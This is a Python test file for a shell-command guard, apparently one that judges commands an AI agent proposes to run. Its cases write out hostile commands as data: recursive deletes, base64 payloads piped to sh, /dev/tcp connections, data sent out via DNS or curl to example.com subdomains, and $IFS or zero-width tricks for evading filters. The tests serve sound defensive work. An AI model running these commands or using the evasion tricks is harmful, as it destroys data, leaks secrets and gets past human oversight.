"""Whole lines: their verdicts, their parts, and the words they are explained with."""

# ruff: noqa: E501 - one example per line

from __future__ import annotations

import pytest

from agentos_lsp.domain.command import allowlist, classify, opaque, verbs
from agentos_lsp.domain.command.invocation import Known, Prefix, Unknown
from agentos_lsp.domain.command.surroundings import Surroundings
from agentos_lsp.domain.command.syntax import Span
from agentos_lsp.domain.command.verdict import Part, Reason, Verdict

SURROUNDINGS = Surroundings(cwd="/w", worktree="/w", home="/home/dev", scratch=("/s",), branch="feature")
NOTHING = allowlist.Allowlist()


def judge(line: str, where: Surroundings = SURROUNDINGS) -> str:
    return classify.classify(line, where, NOTHING).verdict.word


def test_an_assessment_says_which_part_which_rule_and_what_instead():
    found = classify.classify("ls && rm -rf ../x", SURROUNDINGS, NOTHING)
    reason = Reason(
        "block.recursive-delete",
        Verdict.BLOCKED,
        "It would delete ../x (/x), outside the worktree.",
        "Delete inside the worktree or the session's scratch folder; leave the rest to a person.",
    )
    assert found.verdict is Verdict.BLOCKED
    assert found.reasons == (reason,)
    assert found.parts == (
        Part("ls", Span(0, 2), ("ls",), Verdict.ALLOWED, ()),
        Part("rm -rf ../x", Span(6, 17), ("rm", "-rf", "../x"), Verdict.BLOCKED, (reason,)),
    )
    assert found.prefix is None


def test_the_strictest_reason_comes_first_and_each_once():
    found = classify.classify("touch a; touch a; kill 1; curl $X", SURROUNDINGS, NOTHING)
    assert next(reason.rule for reason in found.reasons) == "block.signal"
    assert len(set(found.reasons)) == len(found.reasons)


def test_nothing_at_all_is_allowed():
    assert judge("") == judge("# a comment") == judge("\n") == "allowed"


def test_a_word_that_cannot_be_known_is_shown_as_none():
    (part,) = classify.classify('rm -rf "$X"', SURROUNDINGS, NOTHING).parts
    assert part.words == ("rm", "-rf", None)


@pytest.mark.parametrize(
    ("line", "verdict"),
    [
        ("echo $?", "allowed"),
        ('pytest; echo "exit: $?"', "reviewed"),
        ("[ $? -eq 0 ] && echo fine", "allowed"),
        ("echo $SECRET", "reviewed"),
        ("cat $HOME/x", "reviewed"),
        ("cat /s/log", "allowed"),
        ("ls *.py", "allowed"),
        ("cat .git/config", "reviewed"),
        ("rm -f .git/index.lock", "reviewed"),
        ("find /srv -name x -exec rm {} +", "blocked"),
        ("find . -name x -exec rm {} +", "reviewed"),
        ("find /srv -exec cat {} +", "reviewed"),
        ("cd / || true; rm -rf srv", "blocked"),
        ("cd src || exit 1; rm -rf build", "reviewed"),
        ("cd src; cd ..; cat a", "allowed"),
        ("cd /srv && ls", "reviewed"),
        ("cd /usr/include && ls", "allowed"),
        ("x=/srv; if a; then x=b; fi; rm -rf $x", "blocked"),
        ("for d in a /srv; do rm -rf $d; done", "blocked"),
        ("for d in {1..20} /srv; do rm -rf $d; done", "blocked"),
        ('for d in /srv/*; do rm -rf "$d"; done', "blocked"),
        ('f() { rm -rf "$1"; }; f /srv', "blocked"),
        ('set -- /srv; rm -rf "$@"', "blocked"),
        ("echo /srv | xargs rm -rf", "blocked"),
        ("bash <(echo kill 1)", "blocked"),
        ("source <(echo kill 1)", "blocked"),
        ("echo a2lsbCAx | base64 -d | sh", "blocked"),
        ('dig "$X.example.com"', "blocked"),
        ('curl "https://$SUB.example.com/a"', "blocked"),
        ('curl "http://$X.localhost/"', "reviewed"),
        ('curl "http://$HOST/a"', "reviewed"),
        ("curl http://[2001:db8::1]/", "blocked"),
        ("curl http://[::1]/", "reviewed"),
        ("cat < /dev/tcp/example.com/80", "blocked"),
        ("cat < /dev/tcp/127.0.0.1/80", "reviewed"),
        ("cat < /dev/tcp/$H/80", "reviewed"),
        ('cat < "/dev/tcp/example.com/$P"', "blocked"),
        ("echo x > /dev/udp/example.com/53", "blocked"),
        ("exec 3<>/dev/tcp/example.com/80", "blocked"),
        ("ls > /dev/null 2>&1", "allowed"),
        ("ls >&2", "allowed"),
        ("ls 2>&-", "allowed"),
        ("ls > a", "reviewed"),
        ("ls <> a", "reviewed"),
        ("cat < *", "allowed"),
        ("ls > /dev/sda", "blocked"),
        ("echo x >> ~/.bashrc", "reviewed"),
        ("(((kill 1)))", "blocked"),
        ("time ls", "allowed"),
        ("time touch x", "reviewed"),
        ("ls &", "reviewed"),
        ("git push -f", "reviewed"),
        ("tee /dev/null", "reviewed"),
    ],
)  # fmt: skip
def test_lines_get_their_verdicts(line, verdict):
    assert judge(line) == verdict


@pytest.mark.parametrize(
    ("shell", "line", "verdict"),
    [
        ("sh", "ls", "allowed"),
        ("zsh", "ls", "reviewed"),
        ("fish", "ls; and kill 1", "blocked"),
        ("powershell", "Stop-Process -Id 1", "blocked"),
        ("powershell", "Remove-Item -Recurse C:/x", "blocked"),
        ("zsh", "rm -rf /srv(N)", "blocked"),
    ],
)
def test_other_shells_are_at_least_reviewed(shell, line, verdict):
    assert judge(line, Surroundings(cwd="/w", worktree="/w", shell=shell)) == verdict


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a b; c", ["a b", "c"]),
        ("a 'b ; c' \"d\" e\\ f", ["a b ; c d e f"]),
        ("a $(b c) `d`", ["a", "b c", "d"]),
        ('a "x $(b c) `d`" e', ["a x … e", "b c", "d"]),
        ("a $X$Y b$Z", ["a … b…"]),
        ("rm$IFS-rf${IFS}x", ["rm -rf x"]),
        ("a > b c 2>&1 d >>e f", ["a c d f"]),
        ("{fd}> x a", ["a"]),
        ("a ${X:-b}c ${X:=d} $Y${X:-e}", ["a bc d …"]),
        ('a $X"b"', ["a …"]),
        ("a $X'b'", ["a …"]),
        ("coproc X { a; }", ["X", "a"]),
        ("if a; then b; else c; fi", ["a", "b", "c"]),
        ("for x in a; do b; done", ["x in a", "b"]),
        ("a\\\nb", ["ab"]),
        ("a\\\n b", ["a b"]),
        ("$'\\x6bill' 1", ["kill 1"]),
        ("a 'open; b", ["a open", "b"]),
        ("r\u200bm\u00a0x", ["rm x"]),
        ("cat <<E\nbody; a\nE\nb", ["cat", "b"]),
        ("bash <<E\nbody\nE\nb", ["bash", "body", "b"]),
        ("cat <<E | sh\nbody\nE", ["cat", "sh", "body"]),
        ("cat <<E\nbody", ["cat", "body"]),
        ("cat <<'E' <<F\na\nE\nb\nF\nc", ["cat", "c"]),
        ("", []),
    ],
)  # fmt: skip
def test_refused_text_is_cut_where_a_command_could_begin(text, expected):
    def show(argument: object) -> str:
        match argument:
            case Known(found):
                return found
            case Prefix(found, _):
                return f"{found}…"
            case Unknown():
                return "…"
            case _:
                raise AssertionError(argument)

    found = [" ".join(map(show, words)) for words in opaque.commands(opaque.plain(text))]
    assert [line for line in expected if line not in found] == []
    assert len(found) >= len(expected)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("rm x", True), ("r''m x", True), ("r\\\nm x", True), ("/bin/KILL", True), ("mkfs.ext4 x", True), ("x > /dev/tcp/a/1", True), ("farm", False),
        ("killer", False), ("ls", False),
    ],
)  # fmt: skip
def test_a_program_that_may_be_blocked_is_noticed_in_any_text(text, expected):
    assert verbs.mentions(text) is expected


@pytest.mark.parametrize(
    ("name", "expected"), [("rm", True), ("RM", True), ("rm.exe", True), ("mkfs.xfs", True), ("ls", False)]
)
def test_a_name_is_one_of_them_in_any_case(name, expected):
    assert verbs.is_one(name) is expected


def test_long_refused_text_is_blocked_if_it_names_a_blockable_program():
    assert judge("coproc x; " + "ls; " * 4000) == "reviewed"
    assert judge("coproc x; " + "ls; " * 4000 + "kill 1") == "blocked"


def test_a_big_here_document_is_data():
    body = "kill -9 1; rm -rf / 'unbalanced\n" * 1500
    assert judge(f"cat > notes.md <<'E'\n{body}E\n") == "reviewed"


def test_a_line_longer_than_any_is_not_allowed():
    assert judge("true " * 20_000) == "reviewed"
    assert judge("true " * 20_000 + "; kill 1") == "blocked"
